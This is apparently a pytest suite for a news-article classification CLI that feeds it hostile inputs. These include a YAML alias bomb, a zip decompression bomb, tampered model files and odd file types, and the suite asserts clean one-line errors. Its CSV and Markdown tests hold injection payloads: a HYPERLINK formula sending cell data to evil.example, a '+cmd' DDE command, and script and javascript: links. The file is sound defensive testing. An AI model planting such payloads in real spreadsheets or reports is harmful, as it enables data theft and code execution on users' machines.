"""Issue 10: every hostile input found by the attack, replayed; each must end cleanly.

Clean means: the documented exit code, one ``error:`` line per bad input on stderr and no traceback, and the
good files of the same run still predicted. Files are built in tmp_path; the fake embedder keeps it fast.
"""

from __future__ import annotations

import json
import math
import os
import socket
import time
from pathlib import Path

import numpy as np
import pytest
import yaml
from safetensors.numpy import load_file, save_file
from typer.testing import CliRunner

import classify.dumps as dumps_mod
from classify.cli import app
from classify.config import MAX_YAML_ALIASES, load_config
from classify.dumps import MAX_DUMP_BYTES, MAX_TEXT_CHARS, DumpError, decode, parse_dump, read_dumps
from classify.errors import ConfigError
from conftest import ROOT, reseal
from test_dumps import SAMPLE

runner = CliRunner()
DEFAULT = ROOT / "configs" / "default.yaml"
OTHER = SAMPLE.replace("Ministers agree new rail deal", "Russian missiles knock out power in Kyiv")


def run(*args, input=None):
    result = runner.invoke(app, [a if isinstance(a, str) else str(a) for a in args], input=input)
    return result.exit_code, result.stdout, result.stderr


def error_lines(stderr: str) -> list[str]:
    assert "Traceback" not in stderr, stderr
    return [line for line in stderr.splitlines() if line.startswith("error: ")]


def assert_clean(stderr: str, *words: str, max_len: int = 400) -> str:
    """Exactly one error line, naming ``words``, short, and no traceback."""
    lines = [line for line in stderr.splitlines() if line.strip()]
    errors = error_lines(stderr)
    assert len(errors) == 1, stderr
    assert len(lines) == 1, stderr  # nothing else: no continuation lines of a long message
    assert len(errors[0]) <= max_len, errors[0][:500]
    for w in words:
        assert w in errors[0], (w, errors[0])
    return errors[0]


def predict_rows(tmp_path, model_dir, *inputs, expect_code=1, suffix=".jsonl"):
    out = tmp_path / f"preds{suffix}"
    code, _, err = run("predict", *inputs, "--model", model_dir, "--output", out, "-q")
    assert code == expect_code, err
    if suffix == ".jsonl":
        rows = [json.loads(line, parse_constant=lambda c: pytest.fail(f"invalid JSON constant {c}"))
                for line in out.read_text(encoding="utf-8").splitlines()]
    else:
        import pandas as pd

        rows = (pd.read_csv(out) if suffix == ".csv" else pd.read_parquet(out)).to_dict(orient="records")
    return rows, err


def good(tmp_path) -> Path:
    path = tmp_path / "good.txt"
    path.write_text(SAMPLE, encoding="utf-8")
    return path


# --------------------------------------------------------------------------------------------------------------
# One odd input must not kill the batch


def test_comment_count_of_5000_digits(tmp_path, model_dir):
    bad = tmp_path / "digits.txt"
    bad.write_text(SAMPLE.replace("\n12\n", "\n" + "9" * 5000 + "\n"))
    d = read_dumps([str(bad)])[0][0]
    assert d.comments is None and d.headline == "Ministers agree new rail deal"
    rows, err = predict_rows(tmp_path, model_dir, good(tmp_path), bad, expect_code=0)
    assert len(rows) == 6 and not error_lines(err)


def test_twelve_digit_count_is_kept_thirteen_is_not():
    assert parse_dump(SAMPLE.replace("\n12\n", "\n123456789012\n")).comments == 123456789012
    assert parse_dump(SAMPLE.replace("\n12\n", "\n1,234,567\n")).comments == 1234567
    assert parse_dump(SAMPLE.replace("\n12\n", "\n1234567890123\n")).comments is None


@pytest.mark.parametrize("suffix", [".jsonl", ".csv", ".parquet"])
def test_file_name_that_is_not_utf8(tmp_path, model_dir, suffix):
    folder = os.fsencode(tmp_path / "in")
    os.mkdir(folder)
    with open(os.path.join(folder, b"caf\xe9.txt"), "wb") as fh:
        fh.write(SAMPLE.encode())
    rows, err = predict_rows(tmp_path, model_dir, os.fsdecode(folder), expect_code=0, suffix=suffix)
    assert len(rows) == 3 and rows[0]["dump"].endswith("caf\\xe9.txt")
    assert not error_lines(err)


def test_file_name_that_is_not_utf8_in_an_error_and_on_the_terminal(tmp_path, model_dir):
    bad = os.path.join(os.fsencode(tmp_path), b"\xff.txt")
    with open(bad, "wb") as fh:
        fh.write(b"")
    code, out, err = run("predict", os.fsdecode(bad), good(tmp_path), "--model", model_dir, "-q")
    assert code == 1
    assert_clean(err, "\\xff.txt", "empty file")
    assert "Unions reject rail deal" in out


def _deny(monkeypatch, blocked: Path, what: str):
    """Make ``blocked`` unreadable: chmod 000, and (root ignores modes) the call raise PermissionError."""
    blocked.chmod(0)
    if what == "open":
        real = open

        def fake_open(path, *args, **kwargs):
            if os.fspath(path) == str(blocked):
                raise PermissionError(13, "Permission denied", str(path))
            return real(path, *args, **kwargs)

        monkeypatch.setattr(dumps_mod, "open", fake_open, raising=False)
    else:
        real = os.scandir

        def fake_scandir(path="."):
            if os.fspath(path) == str(blocked):
                raise PermissionError(13, "Permission denied", str(path))
            return real(path)

        monkeypatch.setattr(dumps_mod.os, "scandir", fake_scandir)


def test_unreadable_file(tmp_path, model_dir, monkeypatch):
    bad = tmp_path / "secret.txt"
    bad.write_text(SAMPLE)
    _deny(monkeypatch, bad, "open")
    try:
        rows, err = predict_rows(tmp_path, model_dir, good(tmp_path), bad)
    finally:
        bad.chmod(0o644)
    assert_clean(err, "secret.txt", "permission denied")
    assert len(rows) == 3


def test_unreadable_sub_folder(tmp_path, model_dir, monkeypatch):
    root = tmp_path / "in"
    (root / "locked").mkdir(parents=True)
    (root / "locked" / "x.txt").write_text(SAMPLE)
    (root / "ok.txt").write_text(SAMPLE)
    _deny(monkeypatch, root / "locked", "scandir")
    try:
        rows, err = predict_rows(tmp_path, model_dir, root)
    finally:
        (root / "locked").chmod(0o755)
    assert_clean(err, "locked", "cannot read directory", "permission denied")
    assert {r["dump"] for r in rows} == {str(root / "ok.txt")}


# --------------------------------------------------------------------------------------------------------------
# Silent data loss: special files, loops, encodings, binary detection


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_fifo_socket_and_symlink_loops_in_a_folder(tmp_path, model_dir):
    root = tmp_path / "in"
    (root / "sub").mkdir(parents=True)
    (root / "a.txt").write_text(SAMPLE)
    (root / "sub" / "b.txt").write_text(OTHER)
    os.mkfifo(root / "pipe.txt")
    sock = socket.socket(socket.AF_UNIX)
    sock_path = root / "sock.txt"
    try:
        sock.bind(str(sock_path))
    except OSError:  # path too long for AF_UNIX on some systems
        sock_path = None
    (root / "sub" / "up").symlink_to("..")  # a folder loop
    (root / "self.txt").symlink_to("self.txt")  # a file loop
    (root / "gone.txt").symlink_to("nothing-here.txt")
    start = time.perf_counter()
    rows, err = predict_rows(tmp_path, model_dir, root)
    sock.close()
    assert time.perf_counter() - start < 30  # a FIFO is never opened (that would block)
    errors = error_lines(err)
    assert any("pipe.txt" in e and "FIFO" in e for e in errors), err
    assert any("up" in e and "symlink loop" in e for e in errors), err
    assert any("self.txt" in e and "symlink loop" in e for e in errors), err
    assert any("gone.txt" in e and "broken symlink" in e for e in errors), err
    if sock_path is not None:
        assert any("sock.txt" in e and "socket" in e for e in errors), err
    assert len(errors) == 4 + (sock_path is not None), err
    assert {r["dump"] for r in rows} == {str(root / "a.txt"), str(root / "sub" / "b.txt")}


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_fifo_named_on_the_command_line(tmp_path, model_dir):
    os.mkfifo(tmp_path / "pipe")
    rows, err = predict_rows(tmp_path, model_dir, tmp_path / "pipe", good(tmp_path))
    assert_clean(err, "pipe", "FIFO")
    assert len(rows) == 3


def test_cp1252_dump_keeps_its_related_stories_and_says_so(tmp_path, model_dir):
    bad = tmp_path / "legacy.txt"
    bad.write_bytes(SAMPLE.replace("picket", "café picket").encode("cp1252"))  # '•' is 0x95, 'é' 0xe9
    dumps, errors = read_dumps([str(bad)])
    assert not errors and [r.title for r in dumps[0].related] == ["Unions reject rail deal", "Storm hits Florida"]
    assert "café" in dumps[0].caption
    out = tmp_path / "p.jsonl"
    code, _, err = run("predict", bad, "--model", model_dir, "--output", out, "-q")
    assert code == 0
    warnings = [line for line in err.splitlines() if line.startswith("warning: ")]
    assert len(warnings) == 1 and "legacy.txt" in warnings[0] and "cp1252" in warnings[0], err
    assert len(out.read_text().splitlines()) == 3


def test_utf8_with_a_few_bad_bytes_stays_utf8_with_a_warning():
    raw = SAMPLE.replace("Ministers agree", "Ministers — agree").encode().replace(b"welcomed", b"welc\xffomed")
    text, warning = dumps_mod.decode_dump(raw, "x.txt")
    assert "Ministers — agree" in text and "\ufffd" in text
    assert warning == "x.txt: 1 invalid UTF-8 byte sequence replaced"


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_utf16_with_a_byte_order_mark_is_read(encoding):
    """What a Windows editor saves as "Unicode": read as the same page, no warning."""
    bom = {"utf-16": b"", "utf-16-le": b"\xff\xfe", "utf-16-be": b"\xfe\xff"}[encoding]
    raw = bom + SAMPLE.replace("Ministers agree", "Ministers — agree").replace("\n", "\r\n").encode(encoding)
    text, warning = dumps_mod.decode_dump(raw, "x.txt")
    assert text == SAMPLE.replace("Ministers agree", "Ministers — agree") and warning is None
    with pytest.raises(DumpError, match="^x.txt: starts with a UTF-16 byte-order mark but is not valid UTF-16"):
        decode(b"\xff\xfe" + "page".encode("utf-16-le") + b"\x00\xd8", "x.txt")  # a lone surrogate
    with pytest.raises(DumpError, match="binary file"):  # UTF-16 without a mark stays binary: NUL bytes
        decode(SAMPLE.encode("utf-16-le"), "x.txt")


@pytest.mark.parametrize("offset", [100, 5000, 100_000])
def test_a_nul_byte_anywhere_is_binary(offset):
    raw = bytearray((SAMPLE * 400).encode()[: offset + 100])
    raw[offset] = 0
    with pytest.raises(DumpError, match=f"binary file \\(NUL byte at offset {offset}\\)"):
        decode(bytes(raw), "x.txt")


def test_control_characters_are_counted_over_the_whole_file():
    clean = SAMPLE.encode() * 10
    with pytest.raises(DumpError, match="binary"):
        decode(clean + b"\x01\x02\x03\x04" * len(clean), "late.txt")  # all the junk after the first 4 kB
    assert decode(clean + b"\x07", "bell.txt")  # one control character is not binary


# --------------------------------------------------------------------------------------------------------------
# DoS: quadratic regexes, huge files


@pytest.mark.parametrize("line", [
    "Recommended Stories" + " " * 40_000 + "x",
    "Recommended" + " " * 40_000 + "x",
    "·" + "1" * 40_000 + " min read x",
    "· 2 min" + " " * 40_000 + "x",
    "  •" + " " * 40_000,
    "date 2022-01-01" + " " * 40_000 + "x",
    "1," * 20_000 + "x",
    "(" + "photo " * 8_000 + "x",
    "ALONA " * 8_000 + "31 OCTOBER 2022",
])
def test_no_regex_is_quadratic(line):
    text = f"Headline\n\n{line}\n\n{line}\n\nbody\n\nRecommended Stories\n\n  • t\n\n{line}\n"
    start = time.perf_counter()
    for t in (text, line + "\n\n" + text):
        try:
            parse_dump(t, "x.txt")
        except DumpError:  # a bullet as the first line: no headline
            pass
    assert time.perf_counter() - start < 0.5


def test_files_above_the_size_limit_are_refused_without_reading(tmp_path, model_dir):
    big = tmp_path / "big.txt"
    with open(big, "wb") as fh:  # sparse: 50 MB on paper, nothing on disk
        fh.truncate(50 * 2**20)
    rows, err = predict_rows(tmp_path, model_dir, big, good(tmp_path))
    assert_clean(err, "big.txt", "50.0 MB", "20 MB limit")
    assert len(rows) == 3
    code, _, err = run("predict", "-", "--model", model_dir, "-q", input=b"x" * (MAX_DUMP_BYTES + 1))
    assert code == 1
    assert_clean(err, "<stdin>", "limit")


def test_a_huge_one_paragraph_dump_embeds_bounded_texts():
    paragraph = "word " * 400_000  # 2 MB, one line
    d = parse_dump("Headline\n\n" + paragraph + "\n\nRecommended Stories\n\n  • t\n\n    " + paragraph, "x.txt")
    assert len(d.text) <= MAX_TEXT_CHARS and len(d.related[0].text) <= MAX_TEXT_CHARS
    d = parse_dump(paragraph, "one-line.txt")  # no line break at all: the headline is cut
    assert len(d.headline) <= dumps_mod.MAX_TITLE_CHARS + 1 and len(d.text) <= MAX_TEXT_CHARS


# --------------------------------------------------------------------------------------------------------------
# Config: memory bombs and user mistakes

LAUGHS = "a0: &a0 [lol, lol]\n" + "".join(f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}]\n" for i in range(1, 40))


def test_yaml_bomb_in_a_config(tmp_path):
    cfg = tmp_path / "bomb.yaml"
    cfg.write_text(DEFAULT.read_text() + "\nextra:\n" + "".join("  " + line + "\n" for line in LAUGHS.splitlines()))
    start = time.perf_counter()
    code, _, err = run("train", cfg, "-o", tmp_path / "m")
    assert code == 2 and time.perf_counter() - start < 5
    assert_clean(err, "bomb.yaml", "invalid YAML", "nodes", max_len=200)


def test_many_aliases_are_refused():
    text = "a: &a x\nb: [" + ", ".join(["*a"] * (MAX_YAML_ALIASES + 1)) + "]\n"
    with pytest.raises(yaml.YAMLError, match="aliases"):
        from classify.config import safe_yaml

        safe_yaml(text)


@pytest.mark.parametrize("value,words", [
    ("{" + LAUGHS.strip().replace("\n", ", ") + "}", ["--set seed", "invalid YAML"]),
    ("[1", ["--set seed", "invalid YAML"]),
    ("*undefined", ["--set seed", "undefined alias"]),
    ("&a [*a]", ["--set seed", "recursive alias"]),
    ("'" + "x" * 1_000_000 + "'", ["seed", "Input should be a valid integer", "…"]),
    ("-1", ["seed", "greater than or equal to 0"]),
])
def test_bad_set_values(tmp_path, value, words):
    code, _, err = run("train", DEFAULT, "-o", tmp_path / "m", "--set", f"seed={value}")
    assert code == 2
    assert_clean(err, *words, max_len=300)


def test_seed_minus_one_in_the_config_file(tmp_path):
    cfg = tmp_path / "neg.yaml"
    cfg.write_text(DEFAULT.read_text().replace("seed: 0", "seed: -1"))
    code, _, err = run("train", cfg, "-o", tmp_path / "m")
    assert code == 2
    assert_clean(err, "neg.yaml", "seed")


def test_config_is_a_directory_or_not_utf8(tmp_path):
    code, _, err = run("train", tmp_path, "-o", tmp_path / "m")
    assert code == 2
    assert_clean(err, "is a directory")
    cfg = tmp_path / "latin.yaml"
    cfg.write_bytes("seed: 0 # café\n".encode("latin-1"))
    code, _, err = run("train", cfg, "-o", tmp_path / "m")
    assert code == 2
    assert_clean(err, "latin.yaml", "not UTF-8")


def test_data_path_is_a_directory(tmp_path):
    with pytest.raises(ConfigError, match=r"data.train.0.path: .* is a directory, expected a file"):
        load_config(DEFAULT, [f"data.train.0.path={tmp_path}"])
    code, _, err = run("train", DEFAULT, "-o", tmp_path / "m", "--set", f"data.train.0.path={tmp_path}")
    assert code == 2
    assert_clean(err, "data.train.0.path", "is a directory")


# --------------------------------------------------------------------------------------------------------------
# Training data the components cannot learn from: one-line DataErrors, not 53 lines of sklearn


def _train(tmp_path, tiny_config, fake_embedder, monkeypatch, **changes):
    import classify.pipeline

    monkeypatch.setattr(classify.pipeline, "make_embedder", lambda config, quiet=False: fake_embedder)
    raw = tiny_config.model_dump()
    for key, value in changes.items():
        node = raw
        parts = key.split("__")
        for part in parts[:-1]:
            node = node[int(part)] if isinstance(node, list) else node[part]
        node[parts[-1]] = value
    cfg = tmp_path / "c.yaml"
    cfg.write_text(yaml.safe_dump(raw))
    return run("train", cfg, "-o", tmp_path / "m", "-q")


def _write(path: Path, rows) -> str:
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    return str(path)


def test_story_that_is_a_string(tmp_path, tiny_config, fake_embedder, monkeypatch):
    stance = _write(tmp_path / "s.jsonl", [{"headline": "H", "topic": "other", "stories": ["just a string"]}])
    code, _, err = _train(tmp_path, tiny_config, fake_embedder, monkeypatch, data__train__1__path=stance)
    assert code == 2
    assert_clean(err, "s.jsonl:1: stories.0", "expected a JSON object")


def test_n_clusters_above_the_data_size(tmp_path, tiny_config, fake_embedder, monkeypatch):
    code, _, err = _train(tmp_path, tiny_config, fake_embedder, monkeypatch, clustering__n_clusters=500)
    assert code == 2
    assert_clean(err, "clustering.n_clusters", "500")


def test_one_topic_class(tmp_path, tiny_config, fake_embedder, monkeypatch):
    topics = _write(tmp_path / "t.jsonl", [{"title": f"Story {i}", "topic": "other"} for i in range(20)])
    stance = _write(tmp_path / "s.jsonl", [{"headline": "H", "topic": "other",
                                            "stories": [{"title": "a", "stance": "agree"}, {"title": "b", "stance": "discuss"}]}])
    code, _, err = _train(tmp_path, tiny_config, fake_embedder, monkeypatch, data__train__0__path=topics,
                          data__train__1__path=stance)
    assert code == 2
    assert_clean(err, "every topic text is labelled 'other'", "topic.enabled")


@pytest.mark.parametrize("two_stage", [False, True])
def test_stance_all_unrelated(tmp_path, tiny_config, fake_embedder, monkeypatch, two_stage):
    rows = [{"headline": f"H{i}", "topic": "other", "stories": [{"title": "x", "stance": "unrelated"}]} for i in range(3)]
    stance = _write(tmp_path / "s.jsonl", rows)
    code, _, err = _train(tmp_path, tiny_config, fake_embedder, monkeypatch, data__train__1__path=stance,
                          stance__two_stage=two_stage)
    assert code == 2
    assert_clean(err, "every stance pair is labelled 'unrelated'")


def test_two_stage_without_unrelated_pairs(tmp_path, tiny_config, fake_embedder, monkeypatch):
    code, _, err = _train(tmp_path, tiny_config, fake_embedder, monkeypatch, stance__two_stage=True,
                          data__train__1__unrelated_per_headline=0)
    assert code == 2
    assert_clean(err, "stance.two_stage", "no training pair is labelled 'unrelated'")


# --------------------------------------------------------------------------------------------------------------
# Output paths


def test_output_is_a_directory(tmp_path, model_dir):
    (tmp_path / "out.jsonl").mkdir()
    code, _, err = run("predict", good(tmp_path), "--model", model_dir, "-o", tmp_path / "out.jsonl", "-q")
    assert code == 2
    assert_clean(err, "out.jsonl", "is a directory")


def test_read_only_output_folder(tmp_path, model_dir, monkeypatch):
    import classify.output

    ro = tmp_path / "ro"
    ro.mkdir()
    ro.chmod(0o555)

    def denied(*args, **kwargs):
        raise PermissionError(13, "Permission denied")

    if os.geteuid() == 0:  # root writes anywhere: make the folder refuse
        monkeypatch.setattr(classify.output.tempfile, "mkstemp", denied)
    try:
        code, _, err = run("predict", good(tmp_path), "--model", model_dir, "-o", ro / "p.jsonl", "-q")
    finally:
        ro.chmod(0o755)
    assert code == 2
    assert_clean(err, "ro", "permission denied or read-only")


def test_train_never_replaces_a_folder_that_is_not_a_model(tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    (home / "thesis.tex").write_text("precious")
    code, _, err = run("train", DEFAULT, "-o", home)
    assert code == 2
    assert_clean(err, "home", "not a classify model")
    assert (home / "thesis.tex").read_text() == "precious"
    code, _, err = run("train", DEFAULT, "-o", home / "thesis.tex")
    assert code == 2 and (home / "thesis.tex").read_text() == "precious"
    assert_clean(err, "thesis.tex", "is a file")


# --------------------------------------------------------------------------------------------------------------
# Model directories that lie


def _predict_error(tmp_path, model_dir):
    code, _, err = run("predict", good(tmp_path), "--model", model_dir, "-q")
    assert code == 1
    return assert_clean(err, str(model_dir))


def test_inconsistent_clusters_json(tmp_path, model_dir):
    info = json.loads((model_dir / "clusters.json").read_text())
    (model_dir / "clusters.json").write_text(json.dumps({**info, "names": info["names"][:-1]}))
    assert "clusters.json differs from the file the model was saved with" in _predict_error(tmp_path, model_dir)
    reseal(model_dir)
    assert "inconsistent clusters.json" in _predict_error(tmp_path, model_dir)
    (model_dir / "clusters.json").write_text(json.dumps({**info, "ids": [i + 100 for i in info["ids"]]}))
    reseal(model_dir)
    assert "not in clusters.json" in _predict_error(tmp_path, model_dir)
    (model_dir / "clusters.json").write_text("[]")
    reseal(model_dir)
    assert "inconsistent" in _predict_error(tmp_path, model_dir)


def test_flipped_byte_in_reference_arrays_is_refused(tmp_path, model_dir):
    path = model_dir / "reference.safetensors"
    data = bytearray(path.read_bytes())
    data[-5] ^= 0x01  # one bit of one float: predictions would change silently
    path.write_bytes(bytes(data))
    assert "reference.safetensors differs from the file the model was saved with" in _predict_error(tmp_path, model_dir)


def test_skops_decompression_bomb_is_refused(tmp_path, model_dir, monkeypatch):
    import zipfile

    import classify.model

    monkeypatch.setattr(classify.model, "MAX_SKOPS_BYTES", 2**20)  # the real limit is 512 MiB: same code path
    path = model_dir / "topic.skops"
    with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("padding.bin", b"\0" * (4 * 2**20))  # 4 MiB of zeros packs to a few KiB
    assert path.stat().st_size < 2**20
    reseal(model_dir)
    err = _predict_error(tmp_path, model_dir)
    assert "topic.skops: unpacks to" in err and "refusing to load it" in err


@pytest.mark.parametrize("change", ["nan", "shape", "coords", "labels"])
def test_bad_reference_arrays(tmp_path, model_dir, change):
    path = model_dir / "reference.safetensors"
    arrays = load_file(str(path))
    if change == "nan":
        arrays["embeddings"][0, 0] = np.nan
    elif change == "shape":
        arrays["embeddings"] = arrays["embeddings"][:, :10].copy()
    elif change == "coords":
        arrays["coords"] = arrays["coords"][:-1].copy()
    else:
        arrays["clusters"] = arrays["clusters"][:-1].copy()
    save_file(arrays, str(path))
    message = _predict_error(tmp_path, model_dir)
    assert "retrain" in message


def test_swapped_skops_files(tmp_path, model_dir):
    topic, stance = (model_dir / "topic.skops").read_bytes(), (model_dir / "stance.skops").read_bytes()
    (model_dir / "topic.skops").write_bytes(stance)
    (model_dir / "stance.skops").write_bytes(topic)
    assert "swapped" in _predict_error(tmp_path, model_dir)


# --------------------------------------------------------------------------------------------------------------
# Unsafe outputs


def test_jsonl_rows_use_null_not_nan(tmp_path, model_dir):
    rows, _ = predict_rows(tmp_path, model_dir, good(tmp_path), expect_code=0)
    article = rows[0]
    assert article["kind"] == "article" and article["stance"] is None and article["stance_score"] is None


def test_report_json_has_no_nan(tmp_path):
    from classify.output import write_json

    write_json({"a": float("nan"), "b": [np.float32("inf"), np.float64(1.5)], "c": {"d": np.nan}}, tmp_path / "r.json")
    text = (tmp_path / "r.json").read_text()
    assert json.loads(text, parse_constant=lambda c: pytest.fail(c)) == {"a": None, "b": [None, 1.5], "c": {"d": None}}


def test_every_json_dumps_in_the_package_refuses_nan():
    for path in (ROOT / "classify").glob("*.py"):
        if path.name == "crossencoder.py":  # owned by the stance work; writes labels and ints only
            continue
        text = path.read_text()
        calls = text.split("json.dumps(")[1:]
        # output.py's dumps_json is the one writer; anything else must refuse NaN itself (Ray's transport of dumps)
        assert path.name == "output.py" or all("allow_nan=False" in c.split("\n")[0] for c in calls), path.name


HOSTILE_HEADLINE = '=HYPERLINK("http://evil.example/?x="&A1,"Click") <script>alert(1)</script> [x](javascript:alert(1))'


def test_csv_cells_are_not_formulas(tmp_path, model_dir):
    bad = tmp_path / "evil.txt"
    bad.write_text(SAMPLE.replace("Ministers agree new rail deal", HOSTILE_HEADLINE)
                   .replace("Unions reject rail deal", "+cmd|' /C calc'!A0").replace("Storm hits Florida", "@SUM(1+1)"))
    out = tmp_path / "p.csv"
    code, _, err = run("predict", bad, "--model", model_dir, "-o", out, "-q")
    assert code == 0, err
    import csv

    titles = [row["title"] for row in csv.DictReader(out.open(encoding="utf-8"))]
    assert titles == ["'" + HOSTILE_HEADLINE, "'+cmd|' /C calc'!A0", "'@SUM(1+1)"]
    from classify.output import csv_cell

    for cell in ["=1", "+1", "-1", "@x", "\tx", "\rx"]:
        assert csv_cell(cell) == "'" + cell
    assert csv_cell("safe") == "safe" and csv_cell(-1.5) == -1.5


def test_markdown_report_escapes_html_and_markdown(tmp_path, model_dir):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "evil.txt").write_text(SAMPLE.replace("Ministers agree new rail deal", HOSTILE_HEADLINE))
    out = tmp_path / "r.md"
    code, _, err = run("report", folder, "--model", model_dir, "-o", out, "-q")
    assert code == 0, err
    text = out.read_text()
    assert "<script>" not in text and "&lt;script&gt;" in text
    import re

    assert re.findall(r"(?<!\\)\]\(", text) == ["]("] and "\\](javascript" in text  # the map image is the only live link


# --------------------------------------------------------------------------------------------------------------
# Real layouts the parser mis-read

READ_TIME_FIRST = """ date 2022-10-21 Kremlin says drone strikes on Ukraine's grid will continue

JOHN SMITH
·2 min read

FILE - Smoke rises after a drone attack in Kyiv, Ukraine, Oct. 17, 2022. (AP Photo/Roman Hrytsyna, File)
56

KYIV, Ukraine (AP) — The Kremlin said on Friday that strikes on power plants would go on.

Officials in Kyiv said rolling blackouts would continue.

Recommended Stories

  • Ukraine braces for more blackouts

    Engineers race to repair damaged substations.
"""

BYLINE_FIRST = """ALONA MAZURENKO – MONDAY, 31 OCTOBER 2022, 03:55

Russian forces shelled Kharkiv Oblast overnight, the regional governor said on Monday. Two people were injured in the attack.

Air defence shot down 44 of 50 cruise missiles, the general staff said.

Recommended Stories

  • Kharkiv hit again

    The governor reported new strikes.
"""


def test_read_time_before_the_photo_caption():
    d = parse_dump(READ_TIME_FIRST, "a.txt")
    assert d.headline == "Kremlin says drone strikes on Ukraine's grid will continue"
    assert d.caption.startswith("FILE - Smoke rises") and d.comments == 56
    assert (d.byline, d.read_minutes) == ("JOHN SMITH", 2)
    assert d.body[0].startswith("KYIV, Ukraine (AP)") and len(d.body) == 2
    assert "Smoke" not in d.text and d.text.endswith("strikes on power plants would go on.")
    no_count = parse_dump(READ_TIME_FIRST.replace("\n56\n", "\n"), "a.txt")
    assert no_count.caption == d.caption and no_count.comments is None and no_count.body == d.body


def test_no_headline_line_byline_first():
    d = parse_dump(BYLINE_FIRST, "b.txt")
    assert d.byline == "ALONA MAZURENKO – MONDAY, 31 OCTOBER 2022, 03:55"
    assert str(d.date) == "2022-10-31"
    assert d.headline == "Russian forces shelled Kharkiv Oblast overnight, the regional governor said on Monday."
    assert d.body[0] == "Two people were injured in the attack."
    assert d.text.startswith(d.headline) and "ALONA" not in d.text
    assert [r.title for r in d.related] == ["Kharkiv hit again"]


@pytest.mark.parametrize("line", ["ALONA MAZURENKO – MONDAY, 31 OCTOBER 2022, 03:55", "By Jane Doe and John Smith",
                                  "JANE DOE, Oct. 5, 2022", "Kyiv, 31 October 2022 03:55"])
def test_a_byline_or_dateline_is_never_the_headline(line):
    assert dumps_mod.is_dateline(line)
    d = parse_dump(f" date 2022-10-31 {line}\n\nA real sentence is here. More.\n", "x.txt")
    assert d.headline == "A real sentence is here." and d.byline == line


@pytest.mark.parametrize("headline", ["Russia strikes Kyiv on 31 October 2022", "By the numbers: Iran's protests",
                                      "Ukraine war: what happened on Monday", "UK inflation hits 11.1% in October 2022"])
def test_headlines_with_dates_are_still_headlines(headline):
    assert not dumps_mod.is_dateline(headline)
    assert parse_dump(f" date 2022-10-31 {headline}\n\nBody.\n").headline == headline


def test_only_a_byline_is_a_clear_per_file_error(tmp_path, model_dir):
    bad = tmp_path / "byline.txt"
    bad.write_text("ALONA MAZURENKO – MONDAY, 31 OCTOBER 2022, 03:55\n")
    rows, err = predict_rows(tmp_path, model_dir, bad, good(tmp_path))
    assert_clean(err, "byline.txt:1", "no headline, only a byline/dateline")
    assert len(rows) == 3


def test_hostile_messages_stay_short():
    with pytest.raises(ConfigError) as err:
        load_config(DEFAULT, ["topic.C=" + "x" * 5_000_000])
    assert len(str(err.value)) < 300 and "\n" not in str(err.value)
    assert math.isfinite(len(str(err.value)))


def test_a_model_cannot_send_the_cache_elsewhere(tmp_path, tiny_model):
    """config.json's embedding.cache_dir is neither saved from training nor obeyed on load."""
    from classify.model import load_model, save_model

    tiny_model.config.embedding.cache_dir = str(tmp_path / "training-machine-cache")
    model_dir = save_model(tiny_model, tmp_path / "model")
    assert json.loads((model_dir / "config.json").read_text())["embedding"]["cache_dir"] is None
    config = json.loads((model_dir / "config.json").read_text())
    config["embedding"]["cache_dir"] = str(tmp_path / "elsewhere")
    (model_dir / "config.json").write_text(json.dumps(config))
    reseal(model_dir)
    assert load_model(model_dir).config.embedding.cache_dir is None


@pytest.mark.parametrize("frozen", [0, 2])
def test_embedding_model_folder_that_is_not_a_model(tmp_path, frozen):
    """A folder named as ``embedding.model`` that holds no transformer model (no config.json with a model_type, or
    no tokenizer) is one error naming the key, before anything is trained or written; with ``frozen_layers`` set
    (which reads the model's layer count when the stance model is built) too."""
    folder = tmp_path / "not-a-model"
    folder.mkdir()
    (folder / "config.json").write_text(json.dumps({"model_type": "bert"}))  # a config, but no tokenizer
    out = tmp_path / "model"
    code, _, err = run("train", DEFAULT, "-o", out, "-q", "--set", f"embedding.model={folder}",
                       "--set", f"stance.cross_encoder.frozen_layers={frozen}")
    assert code == 2
    assert_clean(err, "embedding.model", "not a transformer model")
    assert not out.exists()
    (folder / "vocab.txt").write_text("[PAD]\n")
    (folder / "config.json").write_text("[1, 2]")  # a tokenizer, but a config that is not an object
    code, _, err = run("train", DEFAULT, "-o", out, "-q", "--set", f"embedding.model={folder}")
    assert code == 2
    assert_clean(err, "embedding.model", "not a transformer model")


def test_a_saved_model_folder_is_accepted_as_embedding_model():
    from classify.embed import resolve_model_path

    packaged = resolve_model_path("all-MiniLM-L6-v2")
    assert resolve_model_path(packaged) == str(Path(packaged).resolve())
